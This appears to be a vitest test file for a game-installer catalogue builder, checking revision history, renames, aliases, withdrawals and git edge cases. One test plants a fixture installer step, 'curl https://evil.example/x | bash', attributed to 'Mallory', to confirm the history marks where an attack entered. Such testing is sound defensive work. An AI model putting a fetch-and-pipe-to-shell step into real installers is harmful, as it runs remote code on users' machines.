import { cpSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { readTree } from '../read-tree.ts';
import { runCommand } from '../run-command.ts';
import { temporaryFolder } from '../temporary-folder.ts';
import { gameText, git, installerText, makeRepository, SITE, type MadeCommit } from './random-history.ts';

interface HistoryAnswer {
  readonly game: string;
  readonly revisions: readonly {
    readonly revision: number;
    readonly url: string;
    readonly author: string;
    readonly sha256: string;
    readonly began: readonly string[];
    readonly stopped: readonly string[];
  }[];
}

function build(folder: string, ...more: readonly string[]) {
  return runCommand(['build', '--catalogue', 'catalogue', '--out', 'dist', ...more], { workingFolder: folder });
}

function read(folder: string, path: string): string {
  return readFileSync(join(folder, 'dist/api', path), 'utf8');
}

function historyOf(folder: string, slug: string): HistoryAnswer {
  return JSON.parse(read(folder, `history/${slug}`)) as HistoryAnswer;
}

/** A repository with these commits after one with the settings. */
function repository(...commits: readonly MadeCommit['files'][]): string {
  const folder = temporaryFolder();
  makeRepository(folder, [{ files: SITE }, ...commits.map((files) => ({ files }))]);
  return folder;
}

const GAME = { 'games/q/quake/game.yaml': gameText(1, 'Quake') };
const FILE = 'games/q/quake/quake-linux.yaml';

/** The states of a game, number by number. */
function statesOf(folder: string, game: string): string[] {
  const path = join(folder, 'dist/api/installers/game', game, 'revisions');
  return readdirSync(path)
    .sort((a, b) => Number(a) - Number(b))
    .map((name) => readFileSync(join(path, name), 'utf8'));
}

const versionsOf = (folder: string, game: string) =>
  statesOf(folder, game).map((text) => (JSON.parse(text) as { readonly version: string }).version);

test('the page of what is new says what the last change of an installer did', async () => {
  const folder = temporaryFolder();
  const site = {
    ...SITE,
    'site.yaml': 'base_url: https://catalogue.example\nrevisions: 9\n',
  };
  const changed = installerText(1).replace('    - extract:', '    - chmodx: $GAMEDIR/start\n    - extract:');
  makeRepository(folder, [{ files: { ...site, ...GAME, [FILE]: installerText(1) } }]);
  const page = async () => {
    expect((await build(folder, '--cache', 'cache')).code).toBe(0);
    return readFileSync(join(folder, 'dist/new/index.html'), 'utf8');
  };
  expect(await page()).not.toContain('Now: ');
  writeFileSync(join(folder, 'catalogue', FILE), changed);
  git(folder, 'commit', '--quiet', '--all', '--message', 'Change');
  expect(await page()).toContain('Now: Marks <code>start</code>');
});

test('the change in which an attack came in is named, with who made it', async () => {
  const folder = temporaryFolder();
  const attack = installerText(1).replace(
    '    - extract:',
    '    - execute:\n        command: curl https://evil.example/x | bash\n    - extract:',
  );
  const files = (text: string) => ({ ...GAME, [FILE]: text });
  makeRepository(folder, [
    { files: SITE },
    { files: files(installerText(1)), author: 'Careful' },
    { files: files(installerText(1, { version: 'Better' })), author: 'Careful' },
    { files: files(attack.replace('Version 1', 'Better')), author: 'Mallory' },
    { files: files(installerText(1, { version: 'Best' })), author: 'Careful' },
  ]);
  expect(await build(folder)).toMatchObject({ code: 0, error: '' });
  const { revisions } = historyOf(folder, 'quake-linux');
  const isAttack = (texts: readonly string[]) => texts.some((text) => text.includes('evil.example'));
  expect(revisions.map(({ author, began }) => [author, isAttack(began)])).toEqual([
    ['Careful', false],
    ['Mallory', true],
    ['Careful', false],
    ['Careful', false],
  ]);
  expect(revisions.map(({ stopped }) => isAttack(stopped))).toEqual([true, false, false, false]);
});

describe('what a game was called, and where it lay', () => {
  const later = installerText(1, { version: 'Later' });

  test('a game that was moved takes its states along, if it is the same game', async () => {
    const folder = repository(
      { ...GAME, [FILE]: installerText(1) },
      {
        'games/q/quake/game.yaml': undefined,
        [FILE]: undefined,
        'games/q/quake-1/game.yaml': gameText(1, 'Quake'),
        'games/q/quake-1/quake-linux.yaml': installerText(1),
      },
      { 'games/q/quake-1/quake-linux.yaml': later },
    );
    await build(folder);
    expect(versionsOf(folder, 'quake-1')).toEqual(['Version 1', 'Version 1', 'Later']);
  });

  test('a game that has its old slug as an alias answers by both, and its feed is the same', async () => {
    const game = `${gameText(1, 'Quake')}aliases: [quake]\n`;
    const folder = repository(
      { ...GAME, [FILE]: installerText(1) },
      {
        'games/q/quake/game.yaml': undefined,
        [FILE]: undefined,
        'games/q/quake-1/game.yaml': game,
        'games/q/quake-1/quake-linux.yaml': later,
      },
    );
    await build(folder);
    expect(versionsOf(folder, 'quake')).toEqual(['Version 1', 'Later']);
    const feed = (slug: string) => readFileSync(join(folder, 'dist/feeds/games', `${slug}.atom`), 'utf8');
    expect(feed('quake')).toBe(feed('quake-1'));
    const { out } = await runCommand(['history', 'quake', '--catalogue', 'catalogue'], { workingFolder: folder });
    expect(out).toContain('lutris:quake-1?revision=');
  });

  test('another game in its place begins anew', async () => {
    const folder = repository(
      { ...GAME, [FILE]: installerText(1) },
      {
        'games/q/quake/game.yaml': undefined,
        [FILE]: undefined,
        'games/q/quake-1/game.yaml': gameText(2, 'Quake'),
        'games/q/quake-1/quake-linux.yaml': installerText(1),
      },
    );
    await build(folder);
    expect(versionsOf(folder, 'quake-1')).toEqual(['Version 1']);
  });

  test('an installer that was renamed has one history', async () => {
    const renamed = 'games/q/quake/quake-native.yaml';
    const folder = repository(
      { ...GAME, [FILE]: installerText(1) },
      { [FILE]: undefined, [renamed]: installerText(1) },
    );
    await build(folder);
    expect(historyOf(folder, 'quake-native').revisions.map(({ revision }) => revision)).toEqual([2, 1]);
  });

  test('a game that was taken away and came back counts on', async () => {
    const gone = { 'games/q/quake/game.yaml': undefined, [FILE]: undefined };
    const folder = repository({ ...GAME, [FILE]: installerText(1) }, gone, { ...GAME, [FILE]: later });
    await build(folder);
    expect(versionsOf(folder, 'quake')).toEqual(['Version 1', 'Later']);
  });
});

test('a state that cannot be served has no number', async () => {
  const folder = repository(
    { ...GAME, [FILE]: installerText(1) },
    { [FILE]: 'version: [\n' },
    { [FILE]: installerText(1, { version: 'Better' }) },
  );
  await build(folder);
  expect(versionsOf(folder, 'quake')).toEqual(['Version 1', 'Better']);
});

test('what the client or the site refuses was not served; of what is only worth a word, nothing is asked', async () => {
  const unused = installerText(1, { version: 'Unused' }).replace(
    '  game:',
    '    - more: https://example.org/b.zip\n  game:',
  );
  const refused = installerText(1, { version: 'Refused' }).replace('- extract:', '- extracts:');
  const states = [installerText(1), unused, refused, installerText(1, { version: 'Last' })];
  const commits = states.map((text) => ({ ...GAME, [FILE]: text }));
  const folder = repository(...commits);
  await build(folder);
  expect(versionsOf(folder, 'quake')).toEqual(['Version 1', 'Unused', 'Last']);
  const strict = repository(...commits, { 'site.yaml': `${SITE['site.yaml']}severities:\n  unused-label: error\n` });
  await build(strict);
  expect(versionsOf(strict, 'quake')).toEqual(['Version 1', 'Last']);
});

test('a merge is one change, of whom it came from', async () => {
  const folder = repository({ ...GAME, [FILE]: installerText(1) });
  git(folder, 'checkout', '--quiet', '-b', 'branch');
  writeFileSync(join(folder, 'catalogue', FILE), installerText(1, { version: 'Draft' }));
  git(folder, 'commit', '--quiet', '-a', '-m', 'one');
  writeFileSync(join(folder, 'catalogue', FILE), installerText(1, { version: 'Final' }));
  git(folder, 'commit', '--quiet', '-a', '-m', 'two', '--author', 'Contributor <c@example.org>');
  git(folder, 'checkout', '--quiet', 'main');
  git(folder, 'merge', '--quiet', '--no-ff', '-m', 'merge', 'branch');
  await build(folder);
  expect(versionsOf(folder, 'quake')).toEqual(['Version 1', 'Final']);
  expect(historyOf(folder, 'quake-linux').revisions[0]?.author).toBe('Contributor');
});

test('only the last states of each installer are kept, under their numbers', async () => {
  const states = [1, 2, 3, 4].map((n) => ({ ...GAME, [FILE]: installerText(1, { version: `V${String(n)}` }) }));
  const folder = repository(...states, { 'site.yaml': SITE['site.yaml'].replace('1000', '2') });
  await build(folder);
  expect(historyOf(folder, 'quake-linux').revisions.map(({ revision }) => revision)).toEqual([4, 3]);
  expect(versionsOf(folder, 'quake')).toEqual(['V3', 'V4']);
});

test('what was changed and not committed has no number', async () => {
  const folder = repository({ ...GAME, [FILE]: installerText(1) });
  writeFileSync(join(folder, 'catalogue', FILE), installerText(1, { version: 'Mine' }));
  await build(folder);
  expect(versionsOf(folder, 'quake')).toEqual(['Version 1']);
  git(folder, 'commit', '--quiet', '-a', '-m', 'mine');
  await build(folder);
  expect(versionsOf(folder, 'quake')).toEqual(['Version 1', 'Mine']);
});

describe('what git does not have', () => {
  const states = [{ ...GAME, [FILE]: installerText(1) }, { [FILE]: installerText(1, { version: 'Better' }) }];

  test('a shallow clone is refused, with what to do', async () => {
    const folder = repository(...states);
    git(folder, 'clone', '--quiet', '--depth', '1', `file://${folder}`, 'shallow');
    const { code, error } = await build(join(folder, 'shallow'));
    expect(code).toBe(2);
    expect(error).toContain('fetch-depth: 0');
  });

  test('a catalogue that serves nothing of the past asks for nothing', async () => {
    const off = { 'site.yaml': SITE['site.yaml'].replace('revisions: 1000\n', '') };
    const folder = repository(...states, off);
    git(folder, 'clone', '--quiet', '--depth', '1', `file://${folder}`, 'shallow');
    expect(await build(join(folder, 'shallow'))).toMatchObject({ code: 0, error: '' });
    const paths = Object.keys(readTree(join(folder, 'shallow/dist')));
    expect(paths).toContain('api/installers/quake-linux');
    expect(paths.filter((path) => /^api.*(history|revisions)|^feeds\/games/.test(path))).toEqual([]);
  });

  test('without a repository nothing is served of the past, and that is said', async () => {
    const folder = repository(...states);
    const plain = temporaryFolder();
    cpSync(join(folder, 'catalogue'), join(plain, 'catalogue'), { recursive: true });
    const { code, error } = await build(plain);
    expect([code, error.split('\n').length]).toEqual([0, 2]);
    expect(error).toContain('no git repository');
    expect(readdirSync(join(plain, 'dist/api'))).not.toContain('history');
  });

  test('a history that was rewritten is refused until that is wanted', async () => {
    const folder = repository(...states);
    await build(folder, '--cache', 'cache');
    git(folder, 'reset', '--quiet', '--hard', 'HEAD~1');
    writeFileSync(join(folder, 'catalogue', FILE), installerText(1, { version: 'Other' }));
    git(folder, 'commit', '--quiet', '-a', '-m', 'other');
    const { code, error } = await build(folder, '--cache', 'cache');
    expect([code, error]).toEqual([2, expect.stringContaining('--renumber')]);
    expect(versionsOf(folder, 'quake')).toEqual(['Version 1', 'Better']);
    expect((await build(folder, '--cache', 'cache', '--renumber')).code).toBe(0);
    expect(versionsOf(folder, 'quake')).toEqual(['Version 1', 'Other']);
  });
});

test('history that is switched off and on again is served as before', async () => {
  const folder = repository({ ...GAME, [FILE]: installerText(1) }, { [FILE]: installerText(1, { version: 'Better' }) });
  await build(folder, '--cache', 'cache');
  const before = statesOf(folder, 'quake');
  const hidden = join(folder, '.git');
  mkdirSync(join(folder, 'elsewhere'));
  cpSync(hidden, join(folder, 'elsewhere/git'), { recursive: true });
  rmSync(hidden, { recursive: true });
  await build(folder, '--cache', 'cache');
  expect(readdirSync(join(folder, 'dist/api'))).not.toContain('history');
  cpSync(join(folder, 'elsewhere/git'), hidden, { recursive: true });
  await build(folder, '--cache', 'cache');
  expect(statesOf(folder, 'quake')).toEqual(before);
});

test('a game that went and came back keeps its numbers, however often', async () => {
  const [here, there] = ['games/q/quake', 'games/q/quake-1'];
  const at = (folder: string, away: string, version: string) => ({
    [`${away}/game.yaml`]: undefined,
    [`${away}/quake-linux.yaml`]: undefined,
    [`${folder}/game.yaml`]: gameText(1, 'Quake'),
    [`${folder}/quake-linux.yaml`]: installerText(1, { version }),
  });
  const folder = repository(
    { ...GAME, [FILE]: installerText(1) },
    at(there, here, 'Version 1'),
    at(here, there, 'Version 1'),
    at(there, here, 'Version 1'),
    at(here, there, 'Version 1'),
    { [FILE]: installerText(1, { version: 'Later' }) },
  );
  await build(folder);
  expect(versionsOf(folder, 'quake')).toEqual([...Array.from({ length: 5 }, () => 'Version 1'), 'Later']);
});

test('a state that does harm is withdrawn by its number, which keeps its meaning, also after the game was renamed', async () => {
  const states = ['One', 'Harmful', 'Three'].map((version) => ({ ...GAME, [FILE]: installerText(1, { version }) }));
  const withdrawing = { 'site.yaml': `${SITE['site.yaml']}withdrawn_revisions: [quake@2]\n` };
  const folder = repository(...states);
  await build(folder, '--cache', 'cache');
  expect(versionsOf(folder, 'quake')).toEqual(['One', 'Harmful', 'Three']);
  writeFileSync(join(folder, 'catalogue/site.yaml'), withdrawing['site.yaml']);
  await build(folder, '--cache', 'cache');
  expect(versionsOf(folder, 'quake')).toEqual(['One', 'Three']);
  expect(read(folder, 'installers/game/quake/revisions/3')).toContain('Three');
  const answer = JSON.parse(read(folder, 'history/quake-linux')) as { readonly withdrawn: readonly unknown[] };
  expect(answer.withdrawn).toMatchObject([{ revision: 2, author: 'Somebody' }]);
  expect(historyOf(folder, 'quake-linux').revisions.map(({ revision }) => revision)).toEqual([3, 1]);
  const moved = repository(...states, withdrawing, {
    'games/q/quake/game.yaml': undefined,
    [FILE]: undefined,
    'games/q/quake-1/game.yaml': `${gameText(1, 'Quake')}aliases:\n  - quake\n`,
    'games/q/quake-1/quake-linux.yaml': installerText(1, { version: 'Three' }),
  });
  expect(await build(moved)).toMatchObject({ code: 0 });
  expect(versionsOf(moved, 'quake-1')).toEqual(['One', 'Three', 'Three']);
  const words = await runCommand(['history', '-C', 'catalogue', 'quake-1'], { workingFolder: moved });
  expect(words.out).toContain('All that differs: the slug of the game.');
});

test('what is withdrawn and is not there is found, by a warm build as well, until it is there', async () => {
  const site = { 'site.yaml': `${SITE['site.yaml']}withdrawn_revisions: [quake@1, quake@2, quak@1]\n` };
  const folder = repository(site, { ...GAME, [FILE]: installerText(1) });
  const found = ['2', 'quak@1'].map((name) => expect.stringContaining(name) as string);
  for (const run of ['cold', 'warm', 'warm']) {
    const { code, error } = await build(folder, '--cache', 'cache');
    expect([run, code, error.match(/^.*unknown-withdrawal$/gm)]).toEqual([run, 0, found]);
  }
  writeFileSync(join(folder, 'catalogue', FILE), installerText(1, { version: 'Better' }));
  git(folder, 'commit', '--quiet', '--all', '--message', 'Change');
  const { error } = await build(folder, '--cache', 'cache');
  expect(error.match(/^.*unknown-withdrawal$/gm)).toEqual([expect.stringContaining('quak@1')]);
});
